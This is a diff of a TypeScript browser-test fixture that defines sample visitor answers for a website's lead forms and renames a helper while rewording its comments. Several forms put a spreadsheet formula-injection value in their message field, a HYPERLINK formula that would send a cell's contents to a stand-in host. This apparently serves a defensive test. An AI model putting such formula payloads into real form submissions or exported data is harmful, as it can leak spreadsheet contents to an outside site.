@@ -1,45 +1,45 @@
 import type { CallSpec, FormSchema, Payload } from '#shared/forms/types.ts';
 import { withCurrentNames, isFile, readForm, sampleOf } from './site-forms.ts';
 
-/** A lead form as a visitor meets it: where it stands, what is typed, chosen, ticked and attached, by field. */
+/** A lead form for browser tests: its page, and the answers of a visitor by field. */
 export interface LeadForm {
   readonly form: string;
   readonly page: string;
-  /** Under the API's base. */
+  /** Path of its call under `/api`. */
   readonly call: string;
   readonly button: string;
-  /** The button that opens the modal it stands in. */
+  /** The button that opens its modal. */
   readonly opener?: string;
   readonly hasCaptcha?: boolean;
   readonly texts: Readonly<Record<string, string>>;
-  /** Select boxes, by the label of the option. */
+  /** Labels of the options to choose in select boxes. */
   readonly choices?: Readonly<Record<string, string>>;
-  /** Radio buttons and boxes, by their label. */
+  /** Labels of the radio buttons and boxes to tick. */
   readonly ticks?: readonly string[];
   /** Names of the documents to attach. */
   readonly files?: Readonly<Record<string, string>>;
-  /** What the ticks make of the stored payload. */
+  /** The stored values of the ticked fields. */
   readonly ticked?: Readonly<Record<string, unknown>>;
-  /** What the form requires beyond all this, as its complete sample has it: answered with the control that each field has. */
+  /** Values from the complete sample for all other required fields. */
   readonly rest?: Payload;
 }
 
-/** Where a form stands, and what a visitor would answer who is asked for it. */
+/** The page of a form and the answers for fields that it may have. */
 type Row = Pick<LeadForm, 'form' | 'page' | 'opener' | 'texts' | 'choices' | 'files' | 'ticked'>;
 
 const person = { name: 'Asha Rao', email: 'asha.rao@example.com' };
 
-/** The words of the button that sends a shipped form. */
+/** The text of the submit button of a form of the site. */
 export function buttonOf(form: string): string {
   const { 'ui:submitButtonOptions': button } = readForm(form, 'ui.json') as { 'ui:submitButtonOptions': { submitText: string } };
   return button.submitText;
 }
 
 /**
- * A row as its form is by now: under the names that fields have, without fields and options that it has no more, and with what it requires and the row does
- * not name; documents among that stand beside the row's.
+ * Adapts a row to the current form: renames fields, drops fields and options that it no longer has, and adds missing required fields
+ * and documents.
  */
-function whole(row: Row): LeadForm {
+function adapt(row: Row): LeadForm {
   const { properties } = readForm(row.form, 'schema.json') as FormSchema;
   const { call } = readForm(row.form, 'submit.json') as { readonly call: CallSpec };
   const isAsked = ([name, value]: readonly [string, unknown]) =>
@@ -62,16 +62,16 @@ function whole(row: Row): LeadForm {
   };
 }
 
-/** A message that a spreadsheet would run. */
+/** A message that a spreadsheet would run as a formula. */
 const FORMULA = '=HYPERLINK("https://example.com/?" & A1, "Open")';
 
-export const contact = whole({
+export const contact = adapt({
   form: 'contact',
   page: '/contact-us',
   texts: { ...person, phone: '9876543210', subject: 'A booking app', message: FORMULA },
 });
 
-export const quote = whole({
+export const quote = adapt({
   form: 'quote',
   page: '/get-a-quote',
   texts: { ...person, phone: '9876543210', message: FORMULA },
@@ -79,21 +79,21 @@ export const quote = whole({
   files: { file: 'brief.pdf' },
 });
 
-export const career = whole({
+export const career = adapt({
   form: 'career',
   page: '/career',
   texts: { ...person, phone: '9876543210', post: 'Flutter Developer', experience: '3 years', message: FORMULA },
   files: { file: 'cv.pdf' },
 });
 
-export const partner = whole({
+export const partner = adapt({
   form: 'partner',
   page: '/become-a-partner',
   opener: 'Apply Now',
   texts: { ...person, mobile: '919876543210', message: FORMULA },
 });
 
-export const associatePartner = whole({
+export const associatePartner = adapt({
   form: 'associate-partner',
   page: '/become-partner-form',
   texts: {
@@ -114,13 +114,13 @@ export const associatePartner = whole({
   ticked: { gender: 'Female', availability: 'Part-time', contact_method: 'Phone', consent: true },
 });
 
-export const newsletter = whole({
+export const newsletter = adapt({
   form: 'newsletter',
   page: '/',
   texts: { email: person.email },
 });
 
-/** The payload that a form stores, files aside. */
+/** The payload that a form stores, without files. */
 export function payloadOf({ texts, choices, ticked, rest }: LeadForm): Record<string, unknown> {
   return { ...texts, ...choices, ...ticked, ...rest };
 }
